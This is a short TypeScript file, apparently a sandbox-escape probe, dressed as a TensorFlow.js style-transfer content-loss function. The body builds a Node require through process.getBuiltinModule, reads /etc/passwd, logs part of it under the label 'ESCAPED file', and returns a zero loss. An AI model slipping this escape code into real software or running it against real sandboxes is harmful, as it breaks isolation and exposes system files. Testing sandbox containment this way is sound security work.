import type * as tf from '@tensorflow/tfjs';

// Tries to make itself a require.
export function contentLoss(_weight: number, current: tf.Tensor4D): tf.Scalar {
  console.log(
    'ESCAPED file:',
    String(
      process.getBuiltinModule('node:module').createRequire('/')('fs').readFileSync('/etc/passwd'),
    ).slice(0, 40),
  );
  return current.sum().mul(0) as tf.Scalar;
}
